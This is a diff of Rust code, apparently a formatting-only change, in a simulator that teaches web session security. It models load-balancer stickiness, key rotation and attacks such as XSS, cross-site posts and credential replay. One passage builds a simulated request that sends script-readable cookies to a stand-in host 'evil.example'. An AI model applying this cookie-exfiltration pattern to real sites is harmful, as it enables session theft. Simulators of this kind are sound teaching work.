@@ -29,7 +29,9 @@ use self::attacker::{Attacker, Credential, Loot, Replay, Source};
 use self::balancer::{Balancer, STICKY_COOKIE};
 use self::browser::{Browser, Initiator, PageView, QUOTE_KEY};
 use self::clock::{Clock, Millis};
-use self::config::{AuthMode, Choice, Config, LbPolicy, StoreMode, Transport, EVIL_HOST, MAX_SERVERS, MIN_SERVERS, SITE_HOST};
+use self::config::{
+    AuthMode, Choice, Config, LbPolicy, StoreMode, Transport, EVIL_HOST, MAX_SERVERS, MIN_SERVERS, SITE_HOST,
+};
 use self::exchange::Exchange;
 use self::hop::{abbreviate, server_letter, Actor, Hop, HopKind, Trace};
 use self::http::Request;
@@ -217,7 +219,9 @@ impl World {
         let post = |t: &str, body: serde_json::Value| Request::new(Method::POST, SITE_HOST, t).json(body.to_string());
         match action {
             Action::Visit => self.browse(get("/"), Initiator::Site),
-            Action::QuoteFlight { to } => self.browse(get(&format!("/flights?to={}", url_component(&to))), Initiator::Site),
+            Action::QuoteFlight { to } => {
+                self.browse(get(&format!("/flights?to={}", url_component(&to))), Initiator::Site)
+            }
             Action::BuyFlight { count } => {
                 let mut body = serde_json::json!({ "count": count });
                 if self.config.mode == AuthMode::Token {
@@ -244,7 +248,9 @@ impl World {
                     Vec::new()
                 }
             },
-            Action::CrossSite => self.browse(post("/flights/buy", serde_json::json!({ "count": 1 })), Initiator::EvilPage),
+            Action::CrossSite => {
+                self.browse(post("/flights/buy", serde_json::json!({ "count": 1 })), Initiator::EvilPage)
+            }
             Action::Custom { method, target, body, headers } => {
                 let mut req = Request::new(method, SITE_HOST, &target);
                 if !body.is_empty() {
@@ -299,7 +305,10 @@ impl World {
                     Some(i) => {
                         if let Some(s) = self.servers.get_mut(i as usize) {
                             s.keys.rotate(key, graceful);
-                            s.log(format!("signing key rotated to {kid}{}", if graceful { " (old key still accepted)" } else { "" }));
+                            s.log(format!(
+                                "signing key rotated to {kid}{}",
+                                if graceful { " (old key still accepted)" } else { "" }
+                            ));
                         }
                     }
                     None => {
@@ -333,7 +342,10 @@ impl World {
             Action::SetStore(mode) => {
                 let from = self.config.store;
                 // Sessions survive only where the new strategy still looks for them.
-                let keep_memory = matches!((from, mode), (StoreMode::Memory | StoreMode::Replicated, StoreMode::Memory | StoreMode::Replicated));
+                let keep_memory = matches!(
+                    (from, mode),
+                    (StoreMode::Memory | StoreMode::Replicated, StoreMode::Memory | StoreMode::Replicated)
+                );
                 if !keep_memory {
                     for s in &mut self.servers {
                         s.memory.clear();
@@ -375,7 +387,6 @@ impl World {
         self.browser.jar.remove_expired(now);
     }
 
-
     /// A request from the reader's browser.
     fn browse(&mut self, req: Request, from: Initiator) -> Vec<Hop> {
         let now = self.now();
@@ -404,7 +415,14 @@ impl World {
             .clone()
             .with(HeaderName::from_static("x-forwarded-for"), client_ip(actor))
             .with(HeaderName::from_static("x-forwarded-proto"), self.config.transport.id());
-        trace.push(Actor::Balancer, Actor::Server(route.server), HopKind::Request, label, forwarded.raw(), route.why.clone());
+        trace.push(
+            Actor::Balancer,
+            Actor::Server(route.server),
+            HopKind::Request,
+            label,
+            forwarded.raw(),
+            route.why.clone(),
+        );
 
         let mut backend = Backend {
             servers: &mut self.servers,
@@ -417,7 +435,14 @@ impl World {
         };
         let (mut res, verdict) = backend.handle(route.server, &forwarded, &mut trace);
         let status_label = format!("{} {}", res.status.as_u16(), http::reason(res.status));
-        trace.push(Actor::Server(route.server), Actor::Balancer, HopKind::Response, status_label.clone(), res.raw(), verdict);
+        trace.push(
+            Actor::Server(route.server),
+            Actor::Balancer,
+            HopKind::Response,
+            status_label.clone(),
+            res.raw(),
+            verdict,
+        );
         let mut back_note = String::new();
         if let Some(cookie) = &route.set_sticky {
             res = res.with(::http::header::SET_COOKIE, cookie);
@@ -430,7 +455,16 @@ impl World {
         self.meters.credential_bytes += credential_bytes(&req) as u64;
         self.meters.add_hops(&trace.hops);
         self.clock = Clock::at(trace.t);
-        Exchange { id, actor, request: req, response: res, server: route.server, hops: trace.hops, started, finished: self.now() }
+        Exchange {
+            id,
+            actor,
+            request: req,
+            response: res,
+            server: route.server,
+            hops: trace.hops,
+            started,
+            finished: self.now(),
+        }
     }
 
     fn push_exchange(&mut self, ex: Exchange) {
@@ -463,12 +497,14 @@ impl World {
             self.attacker.take(Loot { source: Source::Xss, credential });
         }
         let hidden: Vec<String> = self.browser.jar.iter().filter(|c| c.http_only).map(|c| c.name.clone()).collect();
-        let mut summary = if got.is_empty() { "script read nothing".to_string() } else { format!("script read {}", got.join(", ")) };
+        let mut summary =
+            if got.is_empty() { "script read nothing".to_string() } else { format!("script read {}", got.join(", ")) };
         if !hidden.is_empty() {
             summary.push_str(&format!("; HttpOnly kept {} out of reach", hidden.join(", ")));
         }
         self.attacker.last_attempt = Some(summary.clone());
-        let payload: Vec<String> = readable.iter().map(|(k, v)| format!("{}={}", url_component(k), url_component(v))).collect();
+        let payload: Vec<String> =
+            readable.iter().map(|(k, v)| format!("{}={}", url_component(k), url_component(v))).collect();
         let raw = format!("GET /collect?{} HTTP/1.1\r\nHost: {EVIL_HOST}\r\n\r\n", payload.join("&"));
         self.leak(Actor::Browser, "XSS → evil.example".into(), raw, summary)
     }
@@ -540,7 +576,13 @@ impl World {
         let message = ex
             .response
             .error_message()
-            .or_else(|| serde_json::from_str::<serde_json::Value>(&ex.response.body).ok()?.get("user")?.as_str().map(|u| format!("logged in as {u}")))
+            .or_else(|| {
+                serde_json::from_str::<serde_json::Value>(&ex.response.body)
+                    .ok()?
+                    .get("user")?
+                    .as_str()
+                    .map(|u| format!("logged in as {u}"))
+            })
             .unwrap_or_default();
         self.attacker.last_replay = Some(Replay { status: ex.response.status.as_u16(), message, used });
         let hops = ex.hops.clone();
